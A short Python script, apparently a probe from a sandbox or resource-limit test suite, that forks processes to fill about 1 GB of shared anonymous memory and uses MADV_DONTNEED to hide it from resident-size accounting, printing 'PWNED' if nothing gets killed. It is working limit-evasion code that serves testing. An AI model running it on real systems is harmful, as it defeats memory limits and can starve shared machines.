"""Fill shared anonymous memory and drop it from our page tables: it stays, but no resident size shows it.

Shows: PWNED on stdout.
Lasts: alone, to the time limit, where it is stopped by waiting.
"""

import mmap
import os
import time
from contextlib import suppress

reader, writer = os.pipe()
for _ in range(16):
    with suppress(OSError):
        if os.fork() == 0:
            areas = []
            with suppress(OSError, ValueError):
                for _ in range(16):
                    area = mmap.mmap(-1, 4 << 20)
                    area[::4096] = b"x" * (4 << 8)
                    area.madvise(mmap.MADV_DONTNEED)
                    areas.append(area)
                    os.write(writer, b"1")
            time.sleep(60)
            os._exit(0)
os.close(writer)
held = 0
while held < 1 << 30:
    held += len(os.read(reader, 1)) * (4 << 20)
time.sleep(0.3)
if os.waitpid(-1, os.WNOHANG) == (0, 0):  # all at one time: nobody was killed meanwhile
    print("PWNED", held >> 20, "MB")
